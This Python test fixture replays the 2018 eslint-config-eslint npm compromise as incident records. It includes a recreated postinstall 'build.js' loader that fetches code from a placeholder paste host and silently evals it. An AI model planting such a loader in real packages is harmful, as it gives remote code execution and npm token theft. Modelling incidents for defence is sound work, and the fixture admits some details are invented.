"""eslint-config-eslint 5.0.2 (2018-07-12): the first of the two packages of one taken account; a postinstall fetches and evaluates.

By the record: published at 09:49 UTC by the account of a maintainer whose password was a reused one, down at 10:25;
eslint-scope followed at 10:40, an incident of its own here. The script after the install fetches code from a paste site and evaluates
it; that code sends the npm token away.
"""

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from pratique.core.names import Ecosystem

_INDEX = """"use strict";

const fs = require("fs");
const path = require("path");

function read(file) {
    const rules = {};
    for (const line of fs.readFileSync(file, "utf8").split("\\n")) {
        const found = /^ {4}([\\w/-]+): (.+)$/.exec(line);
        if (found) {
            rules[found[1]] = JSON.parse(found[2]);
        }
    }
    return rules;
}

module.exports = {
    extends: ["eslint:recommended", "plugin:node/recommended"],
    rules: read(path.join(__dirname, "default.yml"))
};
"""
_RULES = """reportUnusedDisableDirectives: true
rules:
    array-bracket-spacing: "error"
    arrow-body-style: ["error", "as-needed"]
    brace-style: ["error", "1tbs"]
    callback-return: ["error", ["cb", "callback", "next"]]
    eqeqeq: "error"
    indent: ["error", 4]
    no-eval: "error"
    no-implied-eval: "error"
    quotes: ["error", "double", { "avoidEscape": true }]
    strict: ["error", "global"]
"""
_CLEAN = {"index.js": _INDEX, "default.yml": _RULES}
# As the other one's, it evaluates each piece as it comes, so a piece that ends in the middle of a word fails.
_BUILD = """try {
    const https = require("https");

    https.get({
        hostname: "paste.invalid",
        path: "/raw/marker",
        headers: {
            "User-Agent": "Mozilla/5.0 (Windows NT 6.1; rv:52.0) Gecko/20100101 Firefox/52.0",
            Accept: "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
        }
    }, response => {
        response.setEncoding("utf8");
        response.on("data", contents => {
            eval(contents);
        });
        response.on("error", () => {});
    }).on("error", () => {});
} catch (e) {}
"""
_TWO = ("eslint", "nzakas")


def _release(version: str, at: str) -> Release:
    return Release(version=version, at=utc(at), publisher="eslint", maintainers=_TWO, files=_CLEAN)


_BAD = Release(
    version="5.0.2",
    at=utc("2018-07-12T09:49:00Z"),
    publisher="eslint",
    maintainers=_TWO,
    files={**_CLEAN, "build.js": _BUILD},
    scripts={"postinstall": "node ./build.js"},
)

INCIDENT = Incident(
    id="eslint-config-eslint-2018",
    title=(
        "an attacker with a reused password added a postinstall script to eslint-config-eslint; it downloads and "
        "evaluates code that steals the npm token"
    ),
    copy=(
        "our copy of eslint-config-eslint has the same two stages; the second stage is at a URL that does not exist"
    ),
    ecosystem=Ecosystem.NPM,
    at=_BAD.at,
    packages=(
        Package(
            name="eslint-config-eslint",
            releases=(
                _release("3.0.0", "2016-02-12T12:00:00Z"),
                _release("4.0.0", "2017-04-11T12:00:00Z"),
                _release("5.0.0", "2018-06-22T12:00:00Z"),
                _release("5.0.1", "2018-06-23T12:00:00Z"),
                _BAD,
            ),
        ),
    ),
    asks={"eslint-config-eslint": "^5.0.1"},
    good={"eslint-config-eslint": "5.0.1"},
    bad={"eslint-config-eslint": ("5.0.2",)},
    guilty={"eslint-config-eslint": ("5.0.2",)},
    gone_at=utc("2018-07-12T10:25:00Z"),
    advisory=Advisory(
        id="GHSA-pv55-r6j3-wp94", at=utc("2018-07-12T18:42:00Z"), about={"eslint-config-eslint": ("5.0.2",)}
    ),
    invented=(
        "days of earlier releases, the account and the name of the script; the time of the advisory is that of the token "
        "revocation"
    ),
)
